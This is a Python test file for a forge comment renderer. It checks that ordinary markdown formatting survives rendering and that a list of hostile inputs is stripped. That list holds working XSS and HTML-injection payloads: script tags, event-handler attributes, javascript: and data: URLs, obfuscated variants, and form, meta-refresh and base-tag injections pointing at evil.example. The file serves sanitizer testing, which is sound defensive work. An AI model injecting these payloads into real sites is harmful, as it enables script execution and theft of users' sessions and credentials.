"""Comments: what a forge shows stays, what acts goes."""

import re

import pytest

from reconciler.demo.forge import render_comment

SHOWN = {
    "a heading": ("### Plan", "<h3>Plan</h3>"),
    "a fold": ("<details><summary>More</summary>\n\ntext\n\n</details>", "<details><summary>More</summary>"),
    "code that looks like HTML": ("`<b>`", "<code>&lt;b&gt;</code>"),
    "a fenced block": ("```diff\n-a\n+<i>\n```", "<pre><code>-a\n+&lt;i&gt;\n</code></pre>"),
    "a struck word": ("~~old~~", "<s>old</s>"),
    "a column to the right": ("|a|b|\n|-|-:|\n|1|2|", '<td align="right">2</td>'),
    "a link": ("[x](https://acme.example/)", 'rel="nofollow noopener noreferrer">x</a>'),
    "a break in a cell": ("|a|\n|-|\n|1<br>2|", "<td>1<br>2</td>"),
    "a mention is only text": ("@acme/team and @bo", "<p>@acme/team and @bo</p>"),
    "a reference is only text": ("#12 and a1b2c3d", "<p>#12 and a1b2c3d</p>"),
}


@pytest.mark.parametrize("case", SHOWN)
def test_what_a_forge_shows(case):
    markdown, html = SHOWN[case]
    assert html in render_comment(markdown)


HOSTILE = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>", "[x](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>", "<a href=' &#106;avascript:alert(1)'>x</a>", "[x](data:text/html,<script>)",
    "<a href='vbscript:x'>x</a>", "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<style>*{display:none}</style>", "<p style='position:fixed;inset:0'>x</p>", "<iframe src=//evil.example></iframe>",
    "</div></article></main><form action=//evil.example><input name=csrf><button>OK</button></form>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "![x](https://evil.example/pixel.png)", "<b id=login class=notice>x</b>", "<!-- <script>alert(1)</script> -->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea></textarea><button>x</button>",
    "<object data=x></object><embed src=x><video src=x onerror=alert(1)></video>",
    "`````\n</code></pre><script>alert(1)</script>\n`````", "<a href=x target=_top ping=//evil.example>x</a>",
)  # fmt: skip
_ALLOWED = re.compile(
    r"</?(?:a|b|br|code|details|div|em|h[1-6]|hr|li|ol|p|pre|s|strong|summary|table|tbody|td|th|thead|tr|ul)"
    r'(?: (?:href="(?:https?://|mailto:)?[^":]*"|rel="nofollow noopener noreferrer"|title="[^"]*"|open=""))*>'
)


@pytest.mark.parametrize("markdown", HOSTILE)
def test_what_acts_is_gone(markdown):
    html = render_comment(f"before {markdown} after\n\n{markdown}\n")
    left = _ALLOWED.sub("", html)
    assert "<" not in left, html
    assert "before" in left


def test_a_fold_that_is_left_open_ends_with_its_comment():
    html = render_comment("<details><summary>x</summary>\n\n| a |\n|---|\n| <b>1 |")
    assert html.count("<details>") == html.count("</details>") == 1
    assert html.count("<b>") == html.count("</b>")


def test_a_marker_is_not_seen():
    assert render_comment("<!-- reconciler:abc -->\nPlan").strip() == "<p>Plan</p>"
